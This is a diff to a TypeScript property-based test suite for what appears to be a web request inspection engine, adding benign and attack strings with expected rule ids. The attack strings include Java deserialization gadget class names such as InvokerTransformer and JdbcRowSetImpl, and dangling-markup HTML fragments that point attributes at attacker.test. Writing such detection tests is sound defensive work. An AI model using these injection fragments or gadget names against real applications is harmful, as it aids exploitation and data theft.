@@ -7,6 +7,7 @@ import fc from "fast-check";
 import { loadHarness, type Harness } from "../support/harness.js";
 import { json, TEXT_CARRIERS, blockedBy } from "../support/text-carriers.js";
 import { inspect } from "../support/engine.js";
+import { javaAttack } from "../support/variants/java.js";
 
 let h: Harness;
 beforeAll(async () => {
@@ -85,6 +86,31 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
     ],
   },
   {
+    // 8120/8121: a chain all in lower case names a package or a property key, which no class loader loads (Java's
+    // names are case-sensitive). It counts as a whole value or the value after `=` (what a class-name parameter
+    // takes, what probes send), not among other words; a capitalised class counts wherever it stands.
+    name: "a Java package or property named among other words",
+    benign: [
+      "# com.sun.management.jmxremote.ssl=false",
+      '# com.sun.management.jmxremote.ssl.need.client.auth=true|false\n#      If this property is specified as true in conjunction with the previous\n#      property "com.sun.management.jmxremote.ssl" then',
+      'grant codeBase "jrt:/jdk.security.jgss" {',
+      "jdk.security.krb5.default.initiate.credential=always-impersonate",
+      "com.vaadin:vaadin-core\t24.9.14\t25.0.7",
+      "#          com.sun.management.jmxremote.registry.ssl=true",
+    ],
+    attacks: [
+      ["org.apache.commons", 8121],
+      ['"com.opensymphony.xwork2"', 8121],
+      ["test=java.lang.reflect", 8120],
+      ["x=1&cls=com.sun.org.apache", 8121],
+      ["sun.reflect.", 8120],
+      ["java.evil.runtime", 8120],
+      ['grant codeBase "jrt:/jdk.security.auth" {\n    permission java.security.AllPermission;\n};', 8120], // a class after a package
+      ["com.sun.management.jmxremote.ssl x com.sun.rowset.JdbcRowSetImpl", 8121],
+      ["see org.apache.commons.collections.functors.InvokerTransformer", 8122],
+    ],
+  },
+  {
     // 9120/9121: a name, a blank, then two bare words side by side: prose or a C prototype, never PHP
     name: "an argument list that opens with two bare words",
     benign: [
@@ -116,6 +142,32 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
       ['<div class="note" style="background:url(//attacker.test/?', 3021], // a `name:` may open a URL
       ['<a href="test"', 3021], // closed values, the tag left open: the page's markup may add attributes
       ['<img src="x" class="y"', 3021],
+    ],
+  },
+  {
+    // 3021: a tag left open after closed values takes the page's next attributes only to add them to what it already
+    // is: a link, an image, a styled box (`href`, `src`, `style`: CRS 941150's) or an element that only labels
+    // (`class`, `title`, `aria-hidden`: the first words of a line of markup in a subject field), which gains nothing
+    name: "a tag left open whose attributes only label",
+    benign: [
+      '<h4><code>rl.pause()</code><span><a class="mark" href="#rlpause" id="rlpause">#</a></span><a aria-hidden="true"',
+      '<a aria-hidden="true" class="legacy"',
+      '# ajv <img align="right" alt="Ajv logo"',
+      '<option label="Off" name="off"',
+      '<br><table class="nav" width="100%" cellspacing="3"',
+      '<div class="note" title="x" hidden',
+    ],
+    attacks: [
+      ['<a href="test"', 3021],
+      ['<a class="x" title="y" href="z"', 3021],
+      ['<a aria-hidden="true" href="#top"', 3021],
+      ['<img src="x" class="y"', 3021],
+      ['<img alt="logo" srcset="x.png 2x"', 3021],
+      ['<video class="v" poster="x.jpg"', 3021],
+      ['<div style="color:red" class="y"', 3021],
+      ['<td background="x.gif" class="y"', 3021],
+      ['<a ping="//attacker.test/p" class="x"', 3021],
+      ['<span class="x" title="//attacker.test/?', 3021], // a quote left open on a URL to elsewhere, whatever the attribute
     ],
   },
   {
@@ -210,6 +262,41 @@ describe("what the exemptions leave open", () => {
     fc.assert(fc.property(tag, fc.stringMatching(/^[a-z][a-z-]{0,10}$/), scheme, fc.stringMatching(/^[a-z0-9.\/?=&-]{0,20}$/), fc.constantFrom('"', "'"), (name, attr, pre, tail, q) => {
       fc.pre(!attr.startsWith("on"));
       expect(ids(`<${name} ${attr}=${q}${pre}${tail}`)).toContain(3021);
+    }), { numRuns: 200 });
+  });
+
+  it("a tag left open after closed values scores exactly when one of its attributes links, loads or styles", () => {
+    const tag = fc.constantFrom("a", "img", "div", "span", "video", "td", "table", "p", "option", "h2");
+    const label = fc.constantFrom("class", "id", "title", "alt", "lang", "dir", "rel", "role", "width", "name", "aria-label", "aria-hidden", "data-id", "tabindex");
+    const loads = fc.constantFrom("href", "src", "srcset", "style", "background", "poster", "ping", "HREF", "Src");
+    const value = fc.stringMatching(/^[a-z0-9 #._-]{0,12}$/);
+    const attr = (name: string, v: string, q: string) => ` ${name}=${q}${v}${q}`;
+    const q = fc.constantFrom('"', "'");
+    fc.assert(fc.property(tag, fc.array(fc.tuple(label, value, q), { minLength: 1, maxLength: 4 }), fc.option(fc.tuple(loads, value, q, fc.nat())), (name, labels, load) => {
+      const attrs = labels.map(([n, v, qq]) => attr(n, v, qq));
+      if (load) attrs.splice(load[3] % (attrs.length + 1), 0, attr(load[0], load[1], load[2]));
+      const got = ids(`<${name}${attrs.join("")}`);
+      if (load) expect(got).toContain(3021);
+      else expect(got).not.toContain(3021);
+    }), { numRuns: 300 });
+  });
+
+  it("a Java package in lower case scores alone or after `=`, not among other words; a class scores among them", () => {
+    const pkg = fc.constantFrom("org.apache.commons", "com.sun.org.apache", "java.lang.reflect", "com.opensymphony.xwork2", "jdk.security.auth", "sun.misc", "com.sun.management.jmxremote.ssl", "javax.script");
+    const words = fc.stringMatching(/^[a-z]{1,8}( [a-z]{1,8}){0,3}$/);
+    const java = (got: number[]) => got.filter((id) => id === 8120 || id === 8121);
+    fc.assert(fc.property(pkg, words, fc.constantFrom("", '"', "'"), (p, w, q) => {
+      expect(java(ids(`${q}${p}${q}`))).not.toEqual([]);
+      expect(java(ids(`${w.replace(/ /g, "_")}=${p}`))).not.toEqual([]);
+      expect(java(ids(`# ${p}=${w}`))).toEqual([]);
+      expect(java(ids(`${w} ${q}${p}${q} ${w}`))).toEqual([]);
+      expect(java(ids(`${w}: ${p}.Loader.define(x); ${w}`))).not.toEqual([]);
+    }), { numRuns: 300 });
+  });
+
+  it("a comment naming a Java package hides none of the generated Java attacks beside it", () => {
+    fc.assert(fc.property(javaAttack, fc.constantFrom("# com.sun.management.jmxremote.ssl=false\n", 'grant codeBase "jrt:/jdk.security.jgss" {\n', ""), (attack, before) => {
+      expect(blockedBy(h, json(before + attack))).not.toBe("");
     }), { numRuns: 200 });
   });
 
